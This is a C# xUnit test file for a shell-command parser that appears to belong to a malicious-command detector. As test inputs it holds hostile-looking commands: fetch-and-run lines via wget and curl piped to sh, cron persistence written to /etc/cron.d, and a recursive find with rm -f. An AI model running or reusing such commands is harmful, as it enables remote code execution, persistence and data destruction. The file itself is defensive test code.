using System.Linq;
using B64Hunt.Shell;
using Xunit;

namespace B64Hunt.Tests.Shell
{
    /// <summary>
    /// The reader gives every word of a command its position in the text it was given and its role, also for commands
    /// read from nested code that is copied verbatim (-c strings, substitutions, cron lines, here-documents, find -exec);
    /// nested code that is not a verbatim part of the text (an escaped string) gives no positions.
    /// </summary>
    public class ShellWordSpanTests
    {
        private static string[] Words(string text, SimpleCommand command, ShellWordRole role) =>
            command.Spans.Where(s => s.Role == role).Select(s => text.Substring(s.Start, s.End - s.Start)).ToArray();

        private static SimpleCommand Named(string text, string name) => ShellCommandReader.Read(text).First(c => c.CommandName == name);

        [Fact]
        public void EveryWordOfAWrappedCommandHasItsRole()
        {
            const string text = "X=1 sudo -u root curl -o /tmp/x http://e.com > /dev/null";
            var curl = Named(text, "curl");
            Assert.Equal(new[] { "X=1" }, Words(text, curl, ShellWordRole.Assignment));
            Assert.Equal(new[] { "sudo" }, Words(text, curl, ShellWordRole.Wrapper));
            Assert.Equal(new[] { "-u", "root" }, Words(text, curl, ShellWordRole.WrapperOption));
            Assert.Equal(new[] { "curl" }, Words(text, curl, ShellWordRole.Command));
            Assert.Equal(new[] { "-o", "/tmp/x", "http://e.com" }, Words(text, curl, ShellWordRole.Argument));
            Assert.Equal(new[] { "/dev/null" }, Words(text, curl, ShellWordRole.RedirectTarget));
            Assert.Equal(curl.Spans.OrderBy(s => s.Start).ToArray(), curl.Spans.ToArray());
        }

        [Fact]
        public void AQuotedShellStringIsCodeAndItsCommandsHavePositionsInTheOuterText()
        {
            const string text = "nohup bash -c 'wget -q e.com/x -O /tmp/.x; chmod +x /tmp/.x' &";
            var bash = Named(text, "bash");
            Assert.Equal(new[] { "'wget -q e.com/x -O /tmp/.x; chmod +x /tmp/.x'" }, Words(text, bash, ShellWordRole.Code));
            var wget = Named(text, "wget");
            Assert.Equal(new[] { "wget" }, Words(text, wget, ShellWordRole.Command));
            Assert.Equal(new[] { "-q", "e.com/x", "-O", "/tmp/.x" }, Words(text, wget, ShellWordRole.Argument));
            Assert.Equal(new[] { "+x", "/tmp/.x" }, Words(text, Named(text, "chmod"), ShellWordRole.Argument));
        }

        [Fact]
        public void AnEscapedShellStringGivesItsCommandsNoPositions()
        {
            // Look-alike: the same code with escaped quotes is not a verbatim part of the text.
            const string text = "bash -c \"wget -q \\\"e.com/x\\\"\"";
            var wget = Named(text, "wget");
            Assert.Empty(wget.Spans);
            Assert.Single(Words(text, Named(text, "bash"), ShellWordRole.Code));
        }

        [Fact]
        public void SubstitutionsAndFindExecKeepTheirPositions()
        {
            const string text = "echo $(wget -qO- e.com) ; find / -name k -exec rm -f {} \\;";
            Assert.Equal(new[] { "wget" }, Words(text, Named(text, "wget"), ShellWordRole.Command));
            var rm = Named(text, "rm");
            Assert.Equal(new[] { "rm" }, Words(text, rm, ShellWordRole.Command));
            Assert.Equal(new[] { "-f", "{}" }, Words(text, rm, ShellWordRole.Argument));
        }

        [Fact]
        public void AWrittenCronLineIsWrittenContentAndItsCommandIsLocated()
        {
            const string text = "echo '* * * * * curl -fsSL e.com/a.sh | sh' >> /etc/cron.d/x";
            var echo = Named(text, "echo");
            Assert.Equal(new[] { "'* * * * * curl -fsSL e.com/a.sh | sh'" }, Words(text, echo, ShellWordRole.WrittenContent));
            Assert.Equal(new[] { "/etc/cron.d/x" }, Words(text, echo, ShellWordRole.RedirectTarget));
            var curl = Named(text, "curl");
            Assert.Equal(CommandOrigin.Crontab, curl.Origin);
            Assert.Equal(new[] { "-fsSL", "e.com/a.sh" }, Words(text, curl, ShellWordRole.Argument));
        }

        [Fact]
        public void AHereDocumentBodyHasItsSpanAndTheCommandsReadFromIt()
        {
            const string text = "cat > /etc/cron.d/k <<EOF\n* * * * * root wget -q e.com/m\nEOF\n";
            var cat = Named(text, "cat");
            Assert.Equal(new[] { "* * * * * root wget -q e.com/m" }, Words(text, cat, ShellWordRole.HereDocument));
            Assert.Equal(new[] { "-q", "e.com/m" }, Words(text, Named(text, "wget"), ShellWordRole.Argument));
        }

        [Fact]
        public void AnEchoThatWritesNothingToFollowKeepsItsArguments()
        {
            // Look-alike: the same words echoed to the terminal are plain arguments.
            const string text = "echo '* * * * * curl -fsSL e.com/a.sh | sh'";
            Assert.Single(Words(text, Named(text, "echo"), ShellWordRole.Argument));
            Assert.DoesNotContain(ShellCommandReader.Read(text), c => c.CommandName == "curl");
        }
    }
}
